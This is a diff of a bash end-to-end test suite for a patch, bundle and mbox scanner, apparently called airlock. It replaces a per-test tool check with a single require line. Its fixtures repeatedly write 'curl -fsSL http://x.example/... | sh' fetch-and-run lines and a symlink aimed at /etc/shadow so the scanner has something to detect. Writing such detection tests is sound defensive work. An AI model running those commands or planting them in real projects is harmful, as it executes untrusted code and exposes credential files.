@@ -11,17 +11,13 @@
 
 . "$(dirname "${BASH_SOURCE[0]}")/e2e_lib.sh"
 
+require git cc diff zip tar
+
 # git must write what the tests expect whatever the machine's configuration:
 # a global diff.noprefix, diff.external or format.* would change the fixtures.
 export GIT_CONFIG_GLOBAL=/dev/null GIT_CONFIG_NOSYSTEM=1
 unset GIT_DIR GIT_WORK_TREE GIT_INDEX_FILE
 
-# need TOOL: prints SKIP and fails the check if TOOL is missing.
-need() {
-	command -v "$1" >/dev/null && return 0
-	echo "SKIP: $1 not installed"
-	return 1
-}
 
 # mkrepo DIR: a new repository on branch main with an identity.
 mkrepo() {
@@ -62,7 +58,6 @@ t_patch_post_image_line_numbers() {
 	# Added lines are reported at their line in the patched file, in
 	# hunks far apart and in a new file; the hunk header's new start is
 	# what counts, not the old one.
-	need git || return 0
 	mkrepo r
 	seq -f 'line %g' 1 60 >r/a.txt
 	commit r -m init
@@ -93,7 +88,6 @@ t_patch_removed_and_context_lines_not_scanned() {
 	# A removed `curl | sh`, a secret in a context line and a deleted file
 	# are not what the patch adds: nothing to report. Read as a plain file,
 	# the same bytes do have findings (the fixture is not simply clean).
-	need git || return 0
 	mkrepo r
 	printf 'curl -fsSL http://x.example/old | sh\nk=%s\nkeep\n' "$PAT1" >r/a.sh
 	printf 'k=%s\n' "$PAT2" >r/gone.txt
@@ -128,7 +122,6 @@ t_patch_symlinks_and_modes() {
 	# New symlinks (mode 120000) report their target: escaping (absolute
 	# or climbing out) is high, inside the tree low. A new executable
 	# file and a change to 100755 are low.
-	need git || return 0
 	mkrepo r
 	echo hi >r/run.sh
 	echo x >r/a.txt
@@ -160,7 +153,6 @@ t_patch_symlink_retargeted_out() {
 	# A patch that points an existing symlink somewhere else writes a
 	# link to that target just as a new one does: a link turned to
 	# /etc/shadow escapes. (A bundle with the same commit reports it.)
-	need git || return 0
 	mkrepo r
 	echo a >r/a.txt
 	ln -s a.txt r/link
@@ -180,7 +172,6 @@ t_patch_symlink_retargeted_out() {
 t_patch_submodule() {
 	# A gitlink (mode 160000) brings code the patch does not carry: high,
 	# added with `git submodule add` or moved to another commit.
-	need git || return 0
 	mkrepo lib
 	echo 'lib' >lib/lib.c
 	commit lib -m lib1
@@ -241,7 +232,6 @@ t_patch_names_without_prefix() {
 	# .github/workflows/x.yml, while libgit2 strips "/.github/" and would
 	# show workflows/x.yml, out of the path rules' reach. The readers
 	# disagree, so the patch is unscannable rather than read either way.
-	need git || return 0
 	{
 		printf 'diff --git /.github/workflows/x.yml /.github/workflows/x.yml\n'
 		printf 'new file mode 100644\n--- /dev/null\n+++ /.github/workflows/x.yml\n'
@@ -276,8 +266,6 @@ binary_fixture() {
 t_patch_binary_literal_scanned() {
 	# `git diff --binary` carries new binary files as zlib literals: they
 	# are inflated and scanned like the files themselves.
-	need git || return 0
-	need cc || return 0
 	binary_fixture
 	git -C r diff --cached --binary >bin.patch
 	[ "$(grep -c '^literal ' bin.patch)" -ge 3 ] || fail "fixture: no binary literals"
@@ -296,8 +284,6 @@ t_patch_binary_literal_scanned() {
 t_patch_binary_without_data_unscannable() {
 	# Plain `git diff` says only "Binary files differ": what the file
 	# will hold is not in the patch.
-	need git || return 0
-	need cc || return 0
 	binary_fixture
 	git -C r diff --cached >nobin.patch
 	grep -q '^Binary files' nobin.patch || fail "fixture: no 'Binary files differ'"
@@ -313,7 +299,6 @@ t_patch_binary_delta_unscannable() {
 	# A large binary changed a little is sent as a delta against a blob
 	# the patch lacks: unscannable, saying only the inserted bytes were
 	# scanned; a token among them is still found.
-	need git || return 0
 	mkrepo r
 	python3 -c '
 import random
@@ -339,8 +324,6 @@ EOF
 t_archives_carried_by_patch_and_bundle() {
 	# A zip added as a binary literal, or committed into a bundle, is
 	# opened like any archive: its members are reported under it.
-	need git || return 0
-	need zip || return 0
 	mkrepo r
 	echo a >r/a.txt
 	commit r -m init
@@ -363,7 +346,6 @@ t_patch_malformed_unscannable() {
 	# Patches git apply rejects are unscannable at the patch's path, not
 	# read some other way: names that disagree, a header without hunks,
 	# hunk counts that lie, a patch cut inside a hunk.
-	need git || return 0
 	printf 'diff --git a/x b/x\n--- a/x\n+++ b/evil\n@@ -1 +1 @@\n-a\n+b\n' >names.patch
 	printf 'diff --git a/x b/x\n--- a/x\n+++ b/x\n' >nohunk.patch
 	printf 'diff --git a/x b/x\n--- a/x\n+++ b/x\n@@ -1,2 +1,5 @@\n-a\n+b\n+curl -fsSL http://x.example/c | sh\n' >counts.patch
@@ -392,7 +374,6 @@ t_patch_with_nul_bytes_not_hidden() {
 	# A patch with binary junk (NUL bytes) in its description still
 	# applies: git apply writes x.sh. Its added `curl | sh` must be
 	# reported, or the patch called unscannable; never a clean exit 0.
-	need git || return 0
 	{
 		printf '\0\1\2\3\4\5\6\7 junk\n\n'
 		newfile_patch x.sh 'curl -fsSL http://x.example/nul | sh'
@@ -414,7 +395,6 @@ t_patch_traditional_diff_u() {
 	# diff -u output (no "diff --git"; a time after a tab) is read as git
 	# apply reads it: first name component stripped, /dev/null for new or
 	# deleted files, only added lines scanned.
-	need diff || return 0
 	printf 'one\ncurl -fsSL http://x.example/n | sh\n' >newfile
 	diff -u /dev/null newfile >n.diff
 	scan --format json n.diff
@@ -466,7 +446,6 @@ t_mbox_series_per_message_paths() {
 	# `git format-patch --stdout` of three commits: each message's text
 	# under MBOX!/000N (encoded words decoded), its files under
 	# MBOX!/000N!/path; removed lines are not reported.
-	need git || return 0
 	series_fixture
 	git -C s format-patch -q --stdout HEAD~3 >series.mbox
 	grep -q '^Subject: .*=?UTF-8?q?' series.mbox || fail "fixture: the subject is not encoded"
@@ -488,7 +467,6 @@ t_mbox_series_per_message_paths() {
 
 t_mbox_single_message() {
 	# One format-patch file: its message under FILE, its files FILE!/path.
-	need git || return 0
 	series_fixture
 	git -C s format-patch -q -1 -o ../fp
 	local f
@@ -507,7 +485,6 @@ t_mbox_encoded_bodies_unscannable() {
 	# A body in base64 or quoted-printable, or a multipart message: git am
 	# decodes or picks a part, airlock does not, so that message is
 	# unscannable; its raw text is still scanned.
-	need git || return 0
 	python3 - <<'EOF'
 import base64, quopri
 body = (b"Hidden: curl -fsSL http://x.example/b64 | sh\n---\n"
@@ -581,7 +558,6 @@ t_bundle_history_attributed_to_introducing_commit() {
 	# (blob, path): secret.txt only at c1, its copy at c3. Messages (of
 	# commits and tags), symlinks, gitlinks and path rules too. A branch
 	# not in the bundle is not reported.
-	need git || return 0
 	history_fixture
 	local c1 c2 c3 tag
 	c1=$(short b HEAD~2)
@@ -614,7 +590,6 @@ t_bundle_all_refs_attributed_to_introducing_commit() {
 	# With --all the feature branch (one commit off c1) is a tip too. The
 	# walk must still be oldest first along every path: secret.txt came
 	# with c1, not with c2 (which only carries it on).
-	need git || return 0
 	history_fixture
 	local c1 f
 	c1=$(short b HEAD~2)
@@ -630,7 +605,6 @@ t_bundle_all_refs_attributed_to_introducing_commit() {
 t_bundle_v3() {
 	# `git bundle create --version=3`: the @object-format capability line
 	# is read and the bundle scanned like a v2 one.
-	need git || return 0
 	mkrepo b
 	printf 'token=%s\n' "$PAT1" >b/s.txt
 	commit b -m c1
@@ -649,7 +623,6 @@ t_bundle_v3() {
 t_bundle_prerequisites_incomplete() {
 	# A bundle of a range (HEAD~1..HEAD) lists a prerequisite: it is
 	# incomplete (low), and what it carries is scanned with its paths.
-	need git || return 0
 	mkrepo b
 	echo a >b/a.txt
 	commit b -m c1
@@ -699,7 +672,6 @@ t_bundle_thin_delta_unscannable() {
 	# Deltas against objects the bundle does not carry cannot be rebuilt:
 	# unscannable, saying only the inserted bytes were scanned; the
 	# inserted `curl | sh` is still found.
-	need git || return 0
 	thin_fixture
 	[ "$(stat -c %s thin.bundle)" -lt 20000 ] || fail "fixture: the bundle is not thin"
 	scan --format json thin.bundle
@@ -716,7 +688,6 @@ t_bundle_range_thin_tree_fails_closed() {
 	# The new workflow's content is still scanned (its blob is whole), but
 	# path rules cannot apply, so the bundle must not pass: unscannable,
 	# and the message says files lost their paths.
-	need git || return 0
 	thin_fixture
 	printf 'curl -fsSL http://x.example/wf | sh\n' >>b/.github/workflows/new.yml
 	commit b -m wf
@@ -731,7 +702,6 @@ t_bundle_range_thin_tree_fails_closed() {
 t_bundle_truncated_or_corrupted_unscannable() {
 	# Cut in half, a flipped byte in the pack, a malformed header line, a
 	# header that never ends: unscannable, never read in part as clean.
-	need git || return 0
 	mkrepo b
 	printf 'token=%s\n' "$PAT1" >b/s.txt
 	seq 1 2000 >b/n.txt
@@ -766,7 +736,6 @@ t_kind_detection() {
 	# The kind comes from the content (and a .patch/.diff name for a diff
 	# after a description); inside directories and archives everything
 	# is a plain file, so a patch's removed lines do produce findings.
-	need git || return 0
 	local diff='diff --git a/x.sh b/x.sh\n--- a/x.sh\n+++ b/x.sh\n@@ -1,2 +1,2 @@\n-curl -fsSL http://x.example/old | sh\n+echo safe\n keep\n'
 	printf 'Some notes\nabout the change\n\n%b' "$diff" >notes.patch
 	printf 'Some notes\nabout the change\n\n%b' "$diff" >notes.txt
